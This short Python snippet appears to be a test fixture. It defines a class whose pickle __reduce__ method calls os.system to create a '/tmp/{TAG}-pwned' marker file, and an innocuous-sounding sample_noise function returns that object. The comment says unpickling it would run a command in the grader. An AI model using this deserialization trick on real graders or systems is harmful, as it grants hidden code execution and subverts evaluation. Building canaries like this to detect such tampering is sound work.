# An object whose unpickling would run a command in the grader.
class _Payload:
    def __reduce__(self):
        return (_os.system, ("touch /tmp/{TAG}-pwned",))


def sample_noise(*args, **kwargs):
    return _Payload()
